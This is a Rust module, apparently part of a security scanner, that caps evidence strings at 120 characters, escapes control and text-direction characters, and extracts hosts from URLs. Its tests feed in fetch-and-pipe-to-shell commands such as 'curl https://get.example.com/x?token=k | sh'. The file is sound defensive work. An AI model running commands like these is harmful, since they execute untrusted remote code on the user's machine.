//! Evidence that is fit to be stored and shown.
//!
//! Rules hand over what kind of thing matched, paths, hosts and numbers, but never the bytes behind them. What is left
//! to do here is to bound the text and to make it harmless to terminals.

use std::fmt::{self, Write};

/// Writes evidence: at most 120 characters, without control characters and such that turn the direction of text.
pub(super) fn evidence(parts: fmt::Arguments<'_>) -> String {
    let mut writer = Bounded { text: String::new(), left: MAX_CHARS };
    if writer.write_fmt(parts).is_err() {
        writer.text.push('…');
    }
    writer.text
}

struct Bounded {
    text: String,
    /// How many characters are still allowed.
    left: usize,
}

impl Write for Bounded {
    fn write_str(&mut self, text: &str) -> fmt::Result {
        for c in text.chars() {
            // One is kept for the sign that there was more.
            let length = if is_unfit(c) { c.escape_unicode().len() } else { 1 };
            self.left = self.left.checked_sub(length).filter(|left| *left > 0).ok_or(fmt::Error)?;
            if is_unfit(c) {
                self.text.extend(c.escape_unicode());
            } else {
                self.text.push(c);
            }
        }
        Ok(())
    }
}

fn is_unfit(c: char) -> bool {
    c.is_control() || matches!(c, '\u{200e}' | '\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Returns the host of the first URL in `text`, unless that could be something else, such as a part of a password.
pub(super) fn host(text: &str) -> Option<&str> {
    let (_, rest) = text.split_once("://")?;
    let url = rest.split(|c: char| c.is_whitespace() || matches!(c, '"' | '\'' | '|' | ';' | ')' | '`')).next()?;
    let host = url.split(['/', '?', '#']).next()?;
    let host = match host.rsplit_once('@') {
        Some((_, host)) => host,
        None if url.contains('@') => return None,
        None => host,
    };
    is_host(host).then_some(host)
}

/// Returns whether a text could be the name or address of a host, with a port or without.
pub(super) fn is_host(text: &str) -> bool {
    let is_fit = |c: char| c.is_ascii_alphanumeric() || matches!(c, '.' | '-' | ':' | '[' | ']');
    (1..=64).contains(&text.len()) && text.chars().all(is_fit)
}

const MAX_CHARS: usize = 120;

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn evidence_is_bounded_and_has_no_control_characters() {
        assert_eq!(evidence(format_args!("{}: {}", "/tmp/a b", 5)), "/tmp/a b: 5");
        assert_eq!(evidence(format_args!("a\x1b[31m\n\u{202e}b")), "a\\u{1b}[31m\\u{a}\\u{202e}b");
        let long = evidence(format_args!("{}", "é".repeat(500)));
        assert_eq!((long.chars().count(), long.ends_with("é…")), (120, true));
    }

    #[test]
    fn hosts_are_shown_without_what_stands_before_and_behind() {
        assert_eq!(host("curl https://get.example.com/x?token=k | sh"), Some("get.example.com"));
        assert_eq!(host("curl 'http://me:k@10.0.0.1:8000/x'|sh"), Some("10.0.0.1:8000"));
        for text in ["curl example.com", "curl https://me:k/k@example.com", "curl https://$HOST/x", "://", "a://%41"] {
            assert_eq!(host(text), None, "{text}");
        }
    }

    proptest! {
        #[test]
        fn any_text_becomes_short_and_harmless(text in any::<String>()) {
            let shown = evidence(format_args!("{text}{text}{text}"));

            prop_assert!(shown.chars().count() <= MAX_CHARS && !shown.chars().any(char::is_control));
            prop_assert!(host(&text).is_none_or(is_host));
        }
    }
}
